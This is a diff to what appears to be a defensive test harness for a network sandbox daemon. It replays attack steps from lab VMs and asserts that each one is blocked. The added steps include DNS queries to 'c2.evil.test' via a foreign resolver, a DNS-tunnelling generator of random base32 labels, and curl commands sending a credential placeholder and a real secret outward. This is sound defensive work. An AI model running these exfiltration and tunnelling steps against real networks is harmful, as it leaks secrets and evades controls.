@@ -1,18 +1,21 @@
 """The kill chain of a compromised VM, played from inside lab VM agent1 (zone sandbox) against a
 running skyguard daemon: recon scans, lateral movement, IP/MAC spoofing, ARP and ND poisoning, a
-rogue router advertisement, C2 beaconing, hard-coded internet IPs, DoT, the metadata service.
+rogue router advertisement, C2 beaconing, hard-coded internet IPs, DoT and DoH, DNS to a foreign
+resolver, DNS tunnelling, the metadata service; and, from sdnctl1 (which holds a credential
+placeholder), exfiltration of the placeholder and of the real secret. Plus the evasion corpus
+through real veths and SIGKILLs of the daemon under load.
 
 What it is for: `skyguard demo --attack` (a viewer watches each step being blocked, with the
-reason the datapath counted) and tests/adversarial (which assert the same). Each step runs a
-small scapy or socket script inside agent1 (frames crafted there, as an attacker with root in the
-VM would), while sniffers in every other VM and in the lab internet count what arrives, and a
-legitimate LDAP session from radius1 to dc1 keeps talking. A step is blocked when nothing of it
-arrived anywhere, the expected drop reason grew in `skyguard status` counters, and (ARP/ND) the
+reason skyguard counted or logged) and tests/adversarial (which assert the same). Each step runs
+a small scapy/socket/dnslib/curl script inside the VM (frames crafted there, as an attacker with
+root in the VM would), while sniffers in every other VM and in the lab internet count what of
+agent1 arrives, and a legitimate LDAP session from radius1 to dc1 keeps talking. A step is
+blocked when nothing answered it, nothing of it arrived anywhere, the expected drop reasons grew
+in `skyguard status` counters (datapath steps) or a non-allowing DNS / credential decision was
+logged (proxy steps), no secret or placeholder reached the lab's HTTP servers, and (ARP/ND) the
 host's neighbour table was not poisoned.
 
-Not here: building the lab (skyguard.lab) or the daemon (skyguard.daemon); DNS tunnelling, DNS
-bypass and credential exfiltration, which need the DNS proxy and the credential proxy wired into
-the daemon (listed as not covered in the report until they are).
+Not here: building the lab (skyguard.lab) or the daemon (skyguard.daemon).
 """
 
 from __future__ import annotations
@@ -28,7 +31,7 @@ from dataclasses import dataclass, field
 from pathlib import Path
 
 from skyguard import config
-from skyguard.demo import _LISTEN, Demo
+from skyguard.demo import _LISTEN, PLACEHOLDER, Demo
 from skyguard.errors import SkyguardError
 
 ATTACKER = "agent1"
@@ -135,6 +138,24 @@ elif action == "flood":      # host port seconds: denied UDP as fast as one core
     while time.monotonic() < end:
         for _ in range(100):
             s.sendto(MARK + b"flood", (host, port)); sent += 1
+elif action == "dns":        # server proto names...: answered = replies with records
+    from dnslib import DNSRecord
+    server, proto, names = args[0], args[1], args[2:]
+    if names and names[0] == "--tunnel":  # 40 random base32 labels under an allowed domain
+        import base64
+        names = [base64.b32encode(os.urandom(25)).decode().rstrip("=").lower() + "." + names[1] for _ in range(40)]
+    for name in names:
+        sent += 1
+        try:
+            reply = DNSRecord.parse(DNSRecord.question(name).send(server, 53, tcp=proto == "tcp", timeout=1.5))
+            answered += int(reply.header.rcode == 0 and bool(reply.rr))
+        except Exception:
+            pass
+elif action == "curl":       # curl arguments: answered = 1 if curl succeeded (HTTP < 400)
+    import subprocess
+    sent = 1
+    answered = int(subprocess.run(["curl", "-sS", "-m", "5", "--fail", "-o", "/dev/null", *args],
+                                  capture_output=True).returncode == 0)
 elif action == "gso":        # host port: UDP_SEGMENT super-packets (40 segments each) cross veth as one skb
     host, port = args[0], int(args[1])
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -210,17 +231,24 @@ class Attack:
     argv: list[str]  # arguments of the toolbox (_TOOL)
     reasons: tuple[str, ...]  # drop reasons that must grow at the sandbox's egress
     poisoned: list[tuple[int, str]] = field(default_factory=list)  # (family, address): host neighbour must not be agent1's MAC
+    vm: str = ATTACKER  # where the attack runs (credential steps: the VM that holds a placeholder)
+    logged: str | None = None  # a decision of this kind must be logged for `vm` with a non-allowing verdict
+    leaks: tuple[str, ...] = ()  # what must never reach the lab internet's HTTP servers: "secret", "placeholder"
     # filled in by play()
     sent: int = 0
     answered: int = 0
     delivered: int = 0
     counted: dict = field(default_factory=dict)  # reason -> packets dropped during the step
     neighbour_poisoned: list[str] = field(default_factory=list)
+    log_verdicts: list[str] = field(default_factory=list)  # verdicts/results of `logged` decisions
+    leaked: int = 0  # requests the lab internet received carrying what `leaks` names
 
     @property
     def blocked(self) -> bool:
-        return (self.answered == 0 and self.delivered == 0 and not self.neighbour_poisoned
-                and all(self.counted.get(r, 0) > 0 for r in self.reasons))
+        logged_ok = self.logged is None or (bool(self.log_verdicts) and not any(
+            v in ("allowed", "swapped", "passed") for v in self.log_verdicts))
+        return (self.answered == 0 and self.delivered == 0 and not self.neighbour_poisoned and self.leaked == 0
+                and logged_ok and all(self.counted.get(r, 0) > 0 for r in self.reasons))
 
 
 def kill_chain() -> list[Attack]:
@@ -259,6 +287,20 @@ def kill_chain() -> list[Attack]:
         Attack("dns-bypass", "DNS over TLS to an unlisted resolver", ["tcp", "198.51.100.53", "2001:db8::853", "--", "853"],
                ("no_rule",)),
         Attack("internet", "the cloud metadata service", ["tcp", "169.254.169.254", "--", "80"], ("policy_deny",)),
+        Attack("dns-bypass", "DNS over UDP to a foreign resolver for an unlisted name",
+               ["dns", "198.51.100.53", "udp", "c2.evil.test"], (), logged="dns"),
+        Attack("dns-bypass", "DNS over TCP/53 to a foreign resolver for an unlisted name",
+               ["dns", "198.51.100.53", "tcp", "c2.evil.test"], (), logged="dns"),
+        Attack("dns-bypass", "DNS over HTTPS to an unlisted resolver address", ["tcp", "198.51.100.53", "--", "443"],
+               ("no_rule",)),
+        Attack("dns-tunnel", "DNS tunnelling: 40 random labels under an allowed domain",
+               ["dns", "192.0.2.53", "udp", "--tunnel", "files.pythonhosted.test"], (), logged="dns"),
+        Attack("exfiltration", "sdnctl1 sends its placeholder to another allowed host",
+               ["curl", "--cacert", "{ca}", "-H", f"Authorization: Bearer {PLACEHOLDER}", "https://deb.debian.test/"],
+               (), vm="sdnctl1", logged="credential", leaks=("placeholder",)),
+        Attack("exfiltration", "sdnctl1 sends the real secret over allowed HTTPS to an allowed host",
+               ["curl", "--cacert", "{ca}", "-H", "X-Debug: {secret}", "https://api.github.test/"],
+               (), vm="sdnctl1", logged="credential", leaks=("secret",)),
     ]
 
 
@@ -291,9 +333,8 @@ def evasion_corpus() -> list[Attack]:
 
 # Steps the issue asks for that need the DNS proxy / credential proxy in the daemon.
 NOT_YET_COVERED = [
-    ("dns-bypass", "DNS to a foreign resolver (udp/53, tcp/53), DoH to an unlisted address"),
-    ("dns-tunnel", "DNS tunnelling through long random labels"),
-    ("exfiltration", "a real secret value over allowed HTTPS; a placeholder toward an attacker host"),
+    ("crash", "SIGKILL of the DNS proxy alone and of the credential proxy alone (they run inside the daemon)"),
+    ("dns-bypass", "DoH to an allowed host (needs TLS inspection of DNS payloads)"),
 ]
 
 
@@ -337,15 +378,19 @@ class Arena(Demo):
         the daemon's and kill_daemon() hits it) and wait until it answers."""
         log_path = self.workdir / "daemon.log"
         self.workdir.mkdir(parents=True, exist_ok=True)
+        if not self.real_token:
+            self.provision_secrets()  # the sealed store survives restarts (it is in the state dir)
         self.daemon = self.lab.popen(
             "host", [sys.executable, "-m", "skyguard.cli.main", "up", "--policy", str(config.DEFAULT_POLICY),
-                     "--metrics", "off"], lab_resolver=False,
+                     "--metrics", "off", "--upstream-ca", str(self.lab.ca_cert)], lab_resolver=False,
             env=self.env, stdout=open(log_path, "a"), stderr=subprocess.STDOUT)
         deadline = time.monotonic() + 120
         while time.monotonic() < deadline:
             if self.daemon.poll() is not None:
                 raise SkyguardError(f"the daemon exited at start; its log: {log_path}")
             if self.skyguard("status", "--json").returncode == 0:
+                if not self.ca_file.exists():
+                    self.ca_file.write_text(self.skyguard("ca", "export").stdout)
                 return
             time.sleep(0.2)
         raise SkyguardError(f"the daemon did not answer within 120 s; its log: {log_path}")
@@ -413,6 +458,11 @@ class Arena(Demo):
         words = done.stdout.split()
         return {words[i + 1] for i, w in enumerate(words[:-1]) if w == "lladdr"}
 
+    def _lab_requests(self) -> list[str]:
+        """Lines of the lab internet's HTTP(S) request log (one JSON object per request received)."""
+        path = self.lab.requests_log
+        return path.read_text().splitlines() if path.exists() else []
+
     def sniffer_self_check(self) -> int:
         """Frames of agent1 the internet's sniffer counts for an ALLOWED syslog datagram (3 sent):
         proof that the sniffers would see attack traffic if any got through."""
@@ -436,7 +486,10 @@ class Arena(Demo):
         try:
             for attack in attacks:
                 before = self.sandbox_drops()
-                done = self.lab.exec(ATTACKER, [sys.executable, "-c", _TOOL, *attack.argv], lab_resolver=False,
+                self.log_mark = self.log_size()
+                requests_before = self._lab_requests()
+                argv = [a.replace("{ca}", str(self.ca_file)).replace("{secret}", self.real_token) for a in attack.argv]
+                done = self.lab.exec(attack.vm, [sys.executable, "-c", _TOOL, *argv], lab_resolver=True,
                                      capture_output=True, text=True,
                                      env=dict(os.environ, PYTHONPATH=str(config.REPO_ROOT), SG_GATEWAY_MAC=gateway_mac))
                 try:
@@ -447,6 +500,13 @@ class Arena(Demo):
                 time.sleep(0.2)  # let the last frames land before counting
                 after = self.sandbox_drops()
                 attack.counted = {r: after[r] - before.get(r, 0) for r in after if after[r] > before.get(r, 0)}
+                if attack.logged:
+                    self.logged(attack.vm, attack.logged, lambda rs: attack.log_verdicts.extend(
+                        str(r.get("verdict") or r.get("result")) for r in rs))
+                if attack.leaks:
+                    fresh = self._lab_requests()[len(requests_before):]
+                    needles = [self.real_token if w == "secret" else PLACEHOLDER for w in attack.leaks]
+                    attack.leaked = sum(1 for line in fresh if any(n and n in line for n in needles))
                 for family, address in attack.poisoned:
                     if MAC[ATTACKER] in self.host_neighbour_macs(family, address):
                         attack.neighbour_poisoned.append(address)
@@ -512,16 +572,21 @@ def run_attack_demo(console=None) -> int:
 
         def on_step(a: Attack) -> None:
             why = ", ".join(f"{r} x{n}" for r, n in sorted(a.counted.items())) or "nothing counted"
-            mark = "[green]blocked[/]" if (a.answered == 0 and not a.neighbour_poisoned) else "[bold red]GOT THROUGH[/]"
-            console.print(f"   {mark} {a.step:10} {a.title} [dim]({a.sent} sent; dropped: {why})[/]")
+            if a.logged:
+                why += f"; {a.logged} log: " + (", ".join(sorted(set(a.log_verdicts))) or "nothing logged")
+            ok = a.answered == 0 and not a.neighbour_poisoned and not a.leaked
+            mark = "[green]blocked[/]" if ok else "[bold red]GOT THROUGH[/]"
+            console.print(f"   {mark} {a.vm:7} {a.step:12} {a.title} [dim]({a.sent} sent; dropped: {why})[/]")
 
         result = arena.play(on_step=on_step)
         table = Table(title="Kill chain from agent1")
-        for col in ("step", "attempt", "sent", "answered", "drop reasons"):
+        for col in ("VM", "step", "attempt", "sent", "answered", "why blocked"):
             table.add_column(col)
         for a in result["attacks"]:
-            table.add_row(a.step, a.title, str(a.sent), str(a.answered),
-                          ", ".join(f"{r} x{n}" for r, n in sorted(a.counted.items())))
+            why = ", ".join(f"{r} x{n}" for r, n in sorted(a.counted.items()))
+            if a.logged:
+                why = (why + "; " if why else "") + f"{a.logged}: " + ", ".join(sorted(set(a.log_verdicts)))
+            table.add_row(a.vm, a.step, a.title, str(a.sent), str(a.answered), why)
         console.print(table)
         arrived = {k: v["frames"] for k, v in result["sniffed"].items() if v["frames"]}
         console.print(f"   frames of the attacker that reached another VM or the internet: "
